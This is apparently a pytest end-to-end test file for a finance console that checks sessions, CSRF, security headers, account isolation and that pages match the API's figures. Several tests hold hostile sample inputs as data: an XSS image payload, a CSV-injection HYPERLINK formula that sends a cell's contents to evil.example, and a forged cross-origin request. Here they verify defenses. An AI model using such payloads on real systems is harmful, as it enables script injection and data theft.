"""The finance console over HTTP: its data equals the API's; sessions, CSRF, CSP."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import httpx
import pytest

from api.console import pages
from projections.audit import ChainVerifier
from projections.queries import TOTAL_COLUMNS
from tests.e2e.conftest import ACCOUNT, Api
from tests.e2e.console import csrf_of, hidden, money_story, read_minor, signed_in
from tests.e2e.dintero import NATIVE, ok

BALANCES = TOTAL_COLUMNS[1:]  # every balance, without the gross amount


def table(page: str, table_id: str) -> str:
    match = re.search(rf'<table id="{table_id}">(.*?)</table>', page, re.DOTALL)
    assert match, f"no table {table_id}"
    return match.group(1)


def minor_cells(html: str) -> dict[str, int]:
    """The first amount shown in each ``data-field`` cell of a piece of a page.

    The text a person reads, not the cell's ``data-minor`` attribute.
    """
    cells: dict[str, int] = {}
    for field, shown in re.findall(
        r'data-field="(\w+)"[^>]*>\s*<span class="money[^"]*">([^<]*)</span>', html
    ):
        cells.setdefault(field, read_minor(shown))
    return cells


@pytest.fixture
def console(api: Api) -> Iterator[httpx.Client]:
    with signed_in(api, api.finance) as client:
        yield client


class TestSignIn:
    def test_pages_need_a_session(self, api: Api):
        with httpx.Client(base_url=api.base) as anonymous:
            for path in ("/console/orders", "/console/reports/settlement", "/console"):
                answer = anonymous.get(path, follow_redirects=True)
                assert answer.url.path == "/console/sign-in"
                assert "API key" in answer.text

    def test_the_session_cookie_is_httponly_and_strict(self, api: Api):
        with httpx.Client(base_url=api.base) as client:
            form = client.get("/console/sign-in")
            token = hidden(form.text, "form_token")
            answer = client.post(
                "/console/sign-in", data={"key": api.writer, "form_token": token}
            )
            cookie = answer.headers["set-cookie"].lower()
            assert "ledger_console=" in cookie
            assert "httponly" in cookie
            assert "samesite=strict" in cookie
            assert "path=/console" in cookie

    def test_a_wrong_key_is_refused_and_says_so(self, api: Api):
        with httpx.Client(base_url=api.base) as client:
            form = client.get("/console/sign-in")
            answer = client.post(
                "/console/sign-in",
                data={
                    "key": "lk_nope_nope",
                    "form_token": hidden(form.text, "form_token"),
                },
            )
            assert answer.status_code == 401
            assert "not a live API key" in answer.text
            assert "ledger_console=" not in answer.headers.get("set-cookie", "")

    def test_sign_in_without_the_forms_token_is_refused(self, api: Api):
        with httpx.Client(base_url=api.base) as client:
            answer = client.post(
                "/console/sign-in", data={"key": api.writer, "form_token": "forged"}
            )
            assert answer.status_code == 403
            assert "ledger_console=" not in answer.headers.get("set-cookie", "")

    def test_sign_out_ends_the_session_on_the_server(self, api: Api):
        with signed_in(api, api.finance) as client:
            stolen = client.cookies["ledger_console"]
            answer = client.post("/console/sign-out", data={"csrf": csrf_of(client)})
            assert answer.status_code == 303
        with httpx.Client(base_url=api.base) as thief:
            thief.cookies.set("ledger_console", stolen, path="/console")
            assert thief.get("/console/orders").status_code == 303

    def test_revoking_the_key_ends_its_sessions(self, api: Api):
        key_id, key = api.app.state.keys.create(ACCOUNT, "finance")  # type: ignore[attr-defined]
        with signed_in(api, key) as client:
            assert client.get("/console/orders").status_code == 200
            api.app.state.keys.revoke(key_id)  # type: ignore[attr-defined]
            assert client.get("/console/orders").status_code == 303


class TestCsrf:
    def test_a_form_without_its_token_is_refused(self, console: httpx.Client):
        for token in ("", "forged"):
            answer = console.post("/console/audit", data={"csrf": token})
            assert answer.status_code in (400, 403)
            assert "every chain holds" not in answer.text

    def test_a_post_from_another_origin_is_refused(self, console: httpx.Client):
        answer = console.post(
            "/console/audit",
            data={"csrf": csrf_of(console)},
            headers={"Origin": "https://evil.example"},
        )
        assert answer.status_code == 403

    def test_sign_out_needs_the_token(self, console: httpx.Client):
        assert console.post("/console/sign-out", data={"csrf": "x"}).status_code == 403
        assert console.get("/console/orders").status_code == 200


class TestSecurityHeaders:
    def test_console_pages_allow_only_their_own_assets(self, console: httpx.Client):
        for path in ("/console/orders", "/console/sign-in", "/console/nope"):
            policy = console.get(path).headers["content-security-policy"]
            assert "default-src 'none'" in policy
            assert "script-src 'self';" in policy
            assert "style-src 'self';" in policy
            assert "unsafe" not in policy
            assert "frame-ancestors 'none'" in policy

    def test_docs_run_no_inline_or_foreign_script(self, api: Api):
        with httpx.Client(base_url=api.base) as client:
            for path in ("/docs", "/redoc"):
                page = client.get(path)
                assert page.status_code == 200
                policy = page.headers["content-security-policy"]
                assert "script-src 'self';" in policy
                scripts = re.findall(r"<script([^>]*)>(.*?)</script>", page.text)
                assert scripts
                assert all('src="/' in attrs and not body for attrs, body in scripts)
                assert "http" not in page.text.replace('"/', "")
            asset = client.get("/static/docs/swagger-ui-bundle.js")
            assert asset.status_code == 200
            assert len(asset.content) > 100_000


class TestOneAccount:
    def test_another_accounts_order_is_not_found(self, api: Api, console):
        with api.client(api.other_writer) as other:
            theirs = money_story(other, account="other")
        page = console.get(f"/console/orders/{theirs['order_id']}")
        assert page.status_code == 404
        assert theirs["merchant_reference"] not in page.text
        listed = console.get(
            "/console/orders",
            params={"merchant_reference": theirs["merchant_reference"]},
        )
        assert "No order matches" in listed.text


class TestPagesShowTheApisFigures:
    def test_an_orders_balances_and_timeline(self, writer, console):
        story = money_story(writer)
        order_id = story["order_id"]
        api_order = ok(writer.get(f"{NATIVE}/orders/{order_id}"))
        events = ok(writer.get(f"{NATIVE}/orders/{order_id}/events"))["events"]
        page = console.get(f"/console/orders/{order_id}").text
        assert minor_cells(table(page, "order-totals")) == {
            k: api_order["totals"][k] for k in BALANCES
        }
        lines = table(page, "lines")
        for line in api_order["lines"]:
            row = re.search(
                rf'<tr id="line-{line["line_id"]}">(.*?)</tr>', lines, re.DOTALL
            )
            assert row
            assert minor_cells(row.group(1)) == {
                k: line["balance"][k] for k in BALANCES
            }
        shown = re.findall(r'<li data-version="(\d+)" data-type="(\w+)">', page)
        assert shown == [(str(e["version"]), e["type"]) for e in reversed(events)]
        for event in events:
            assert event["hash"] in page
            assert event["request_id"] in page
        assert "✔ chain verified" in page

    def test_the_page_as_of_a_version_is_the_api_at_that_version(self, writer, console):
        order_id = money_story(writer)["order_id"]
        latest = ok(writer.get(f"{NATIVE}/orders/{order_id}"))["version"]
        earlier = ok(
            writer.get(f"{NATIVE}/orders/{order_id}", params={"version": latest - 1})
        )
        page = console.get(
            f"/console/orders/{order_id}", params={"version": latest - 1}
        )
        assert minor_cells(table(page.text, "order-totals")) == {
            k: earlier["totals"][k] for k in BALANCES
        }
        assert f"As it stood at version {latest - 1}" in page.text
        versions = re.findall(r'<li data-version="(\d+)"', page.text)
        assert max(map(int, versions)) == latest - 1

    def test_the_page_as_of_a_time_in_the_viewers_zone(self, writer, console):
        order_id = money_story(writer)["order_id"]
        events = ok(writer.get(f"{NATIVE}/orders/{order_id}/events"))["events"]
        captured = next(e for e in events if e["type"] == "Captured")
        moment = datetime.fromisoformat(captured["time"]).astimezone(UTC)
        utc_text = moment.replace(tzinfo=None).isoformat(timespec="microseconds")
        # A viewer two hours east of UTC types local time; getTimezoneOffset() = -120.
        east = (moment + timedelta(hours=2)).replace(tzinfo=None)
        for typed, offset in ((utc_text, "0"), (east.isoformat(), "-120")):
            page = console.get(
                f"/console/orders/{order_id}",
                params={"as_of": typed, "tz_offset": offset},
            )
            assert page.status_code == 200, page.text
            assert f'data-version="{captured["version"]}"' in page.text
            assert f'data-version="{captured["version"] + 1}"' not in page.text

    def test_the_order_list_its_totals_and_csv(self, writer, console):
        stories = [money_story(writer, reference="MR-SHARED") for _ in range(2)]
        page = console.get(
            "/console/orders", params={"merchant_reference": "MR-SHARED"}
        )
        for story in stories:
            assert story["order_id"] in page.text
        totals = table(page.text, "totals")
        assert '<td>NOK</td><td class="num">2</td>' in totals
        listed = ok(
            writer.get(f"{NATIVE}/orders", params={"merchant_reference": "MR-SHARED"})
        )["orders"]
        captured = sum(o["captured"] for o in listed)
        assert f"{captured / 100:,.2f} NOK" in totals
        export = console.get(
            "/console/orders.csv", params={"merchant_reference": "MR-SHARED"}
        )
        assert export.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(export.text)))
        assert {r["order_id"] for r in rows} == {s["order_id"] for s in stories}
        assert sum(int(r["captured"]) for r in rows) == captured

    def test_a_bad_filter_is_named(self, console: httpx.Client):
        answer = console.get("/console/orders", params={"created_from": "yesterday"})
        assert answer.status_code == 400
        assert "created_from" in answer.text

    def test_the_settlement_report_and_its_csv_are_the_apis(self, writer, console):
        money_story(writer)
        today = datetime.now(UTC).date().isoformat()
        params = {"first": today, "last": today}
        page = console.get("/console/reports/settlement", params=params)
        mine = console.get("/console/reports/settlement.csv", params=params)
        theirs = writer.get(
            f"{NATIVE}/reports/settlement",
            params={"from": today, "to": today, "format": "csv"},
        )
        assert mine.text == theirs.text
        rows = list(csv.DictReader(io.StringIO(theirs.text)))
        net = sum(int(r["net"]) for r in rows)
        assert minor_cells(table(page.text, "settlement-totals"))["net"] == net

    def test_reconciliation_shows_the_differences(self, writer, console):
        story = money_story(writer)
        today = datetime.now(UTC).date().isoformat()
        order = ok(writer.get(f"{NATIVE}/orders/{story['order_id']}"))
        payment = order["payments"][0]["payment_id"]
        settlement_file = (
            "date,order_id,payment_id,kind,amount,currency,reference\n"
            f"{today},{story['order_id']},{payment},capture,9999,NOK,psp-1\n"
            f"{today},GHOST,{payment},capture,100,NOK,psp-2\n"
        )
        page = console.post(
            "/console/reconciliation",
            data={"csrf": csrf_of(console)},
            files={"settlement_file": ("psp.csv", settlement_file, "text/csv")},
        )
        assert page.status_code == 200, page.text
        counts = dict(re.findall(r'data-count="(\w+)">(\d+)<', page.text))
        api_result = ok(
            writer.post(
                f"{NATIVE}/reconciliation",
                content=settlement_file,
                headers={"Content-Type": "text/csv"},
            )
        )
        assert counts == {k: str(len(v)) for k, v in api_result.items()}
        assert counts["amount_mismatches"] == "1"
        differences = console.post(
            "/console/reconciliation/differences.csv",
            data={"csrf": hidden(page.text, "csrf"), "file_text": settlement_file},
        )
        results = [r["result"] for r in csv.DictReader(io.StringIO(differences.text))]
        assert "matched" not in results
        assert "amount_mismatches" in results
        assert "missing_in_ledger" in results

    def test_audit_verifies_with_progress(self, writer, console):
        money_story(writer)
        answer = console.post("/console/audit", data={"csrf": csrf_of(console)})
        assert answer.status_code == 200
        assert "stored events read" in answer.text
        assert "every chain holds" in answer.text
        api_report = ok(writer.get(f"{NATIVE}/audit/verify"))
        assert f"{api_report['orders_checked']:,} orders" in answer.text

    def test_health_shows_each_read_models_lag(
        self, api: Api, writer: httpx.Client, console: httpx.Client
    ):
        def events_behind() -> dict[str, int]:
            page = console.get("/console/health").text
            rows = re.findall(
                r"<tr><td>(\w+)</td><td class=\"num\">(\d+)</td>", table(page, "lag")
            )
            return {name: int(behind) for name, behind in rows}

        projections = api.app.state.projections  # type: ignore[attr-defined]
        projections.wait_for_head(10)
        assert events_behind() == {"balances": 0, "journal": 0}
        projections.stop()  # nobody projects from here on
        money_story(writer)
        head = api.app.state.ledger.recorder.max_notification_id()  # type: ignore[attr-defined]
        behind = events_behind()
        assert set(behind) == {"balances", "journal"}
        # Every committed event not yet projected counts (SPEC §10).
        for runner_name, count in behind.items():
            position = projections.runners[runner_name].view.position()
            assert count == head - position > 0, (runner_name, count)
        page = console.get("/console/health").text
        assert "None of your orders' events was set aside" in page

    def test_empty_states_say_what_to_do(self, console: httpx.Client):
        page = console.get("/console/orders").text
        assert "No order matches these filters" in page
        report = console.get(
            "/console/reports/settlement",
            params={"first": "2001-01-01", "last": "2001-01-31"},
        )
        assert "Pick a wider range" in report.text


def test_the_demo_link_signs_in_once(api: Api):
    from api.keys import Principal, Role  # noqa: PLC0415

    key_id, _ = api.app.state.keys.create(ACCOUNT, Role.FINANCE)  # type: ignore[attr-defined]
    ticket = api.app.state.console_sessions.issue_ticket(  # type: ignore[attr-defined]
        Principal(key_id, ACCOUNT, Role.FINANCE)
    )
    with httpx.Client(base_url=api.base) as client:
        first = client.get(f"/console/ticket/{ticket}")
        assert first.headers["location"] == "/console/orders"
        assert client.get("/console/orders").status_code == 200
    with httpx.Client(base_url=api.base) as again:
        second = again.get(f"/console/ticket/{ticket}")
        assert second.headers["location"] == "/console/sign-in"


def test_what_clients_sent_is_shown_as_text_never_run(writer, console):
    hostile = '<img src=x onerror="alert(1)">'
    story = money_story(writer, reference=hostile)
    listed = console.get("/console/orders", params={"merchant_reference": hostile})
    assert story["order_id"] in listed.text
    assert hostile not in listed.text
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in listed.text
    export = console.get("/console/orders.csv", params={"merchant_reference": hostile})
    [row] = csv.DictReader(io.StringIO(export.text))
    assert row["merchant_reference"] == hostile  # markup is data in a CSV
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")'
    money_story(writer, reference=formula)
    export = console.get("/console/orders.csv", params={"merchant_reference": formula})
    [row] = csv.DictReader(io.StringIO(export.text))
    # A spreadsheet reads the cell as text: the formula is defused, not run.
    assert row["merchant_reference"] == "'" + formula


def test_the_order_list_pages_by_keyset_and_totals_the_whole_set(
    writer, console, monkeypatch
):
    from api.console import pages  # noqa: PLC0415

    monkeypatch.setattr(pages, "PAGE_SIZE", 2)
    made = {money_story(writer, reference="MR-PAGED")["order_id"] for _ in range(3)}
    first = console.get("/console/orders", params={"merchant_reference": "MR-PAGED"})
    assert "3 matching orders" in first.text
    assert 'id="first-page"' not in first.text
    shown = set(re.findall(r'href="/console/orders/([A-Z0-9]+)"', first.text))
    [link] = re.findall(r'id="next-page" href="([^"]+)"', first.text)
    second = console.get(link.replace("&amp;", "&"))
    assert "3 matching orders" in second.text
    assert 'id="first-page"' in second.text
    assert 'id="next-page"' not in second.text
    later = set(re.findall(r'href="/console/orders/([A-Z0-9]+)"', second.text))
    assert (len(shown), len(later)) == (2, 1)
    assert shown | later == made


def test_search_finds_part_of_an_id_or_reference_and_a_payment_id(writer, console):
    story = money_story(writer, reference="INV-2026-0042_x")
    for term in ("2026-0042", "inv-2026", story["order_id"][2:8].lower(), "PID_1"):
        page = console.get("/console/orders", params={"q": term})
        assert story["order_id"] in page.text, term
    for literal in ("INV%0042", "INV-2026-0042_y", "0042__"):
        page = console.get("/console/orders", params={"q": literal})
        assert story["order_id"] not in page.text, literal  # % and _ are not wildcards


# In this process only: they change the app's module and read its state.
def test_the_timeline_comes_a_page_at_a_time(writer, console, monkeypatch):
    monkeypatch.setattr(pages, "TIMELINE_PAGE", 2)
    order_id = money_story(writer)["order_id"]
    latest = ok(writer.get(f"{NATIVE}/orders/{order_id}"))["version"]
    seen: list[int] = []
    path: str | None = f"/console/orders/{order_id}"
    while path:
        page = console.get(path).text
        versions = [int(v) for v in re.findall(r'<li data-version="(\d+)"', page)]
        assert 1 <= len(versions) <= 2
        seen += versions
        older = re.search(r'id="older-events" href="([^"]+)"', page)
        path = (
            f"/console/orders/{order_id}" + older.group(1).replace("&amp;", "&")
            if older
            else None
        )
    assert seen == list(range(latest, 0, -1))


def test_the_chain_mark_goes_on_from_the_store_audit(api, writer, console):
    order_id = money_story(writer)["order_id"]
    latest = ok(writer.get(f"{NATIVE}/orders/{order_id}"))["version"]
    ChainVerifier(api.app.state.ledger).verify_store()
    page = console.get(f"/console/orders/{order_id}").text
    assert f"versions 1–{latest} by the store" in page
    assert "nothing newer since" in page
    ok(
        writer.post(
            f"{NATIVE}/shopping/orders/{order_id}/refunds",
            json={
                "items": [{"line_id": 1, "amount": 100}],
                "payment_details": {"payment_id": "PID_1"},
            },
        )
    )
    page = console.get(f"/console/orders/{order_id}").text
    assert "✔ chain verified" in page
    assert f"{latest + 1}–{latest + 1} recomputed now" in page
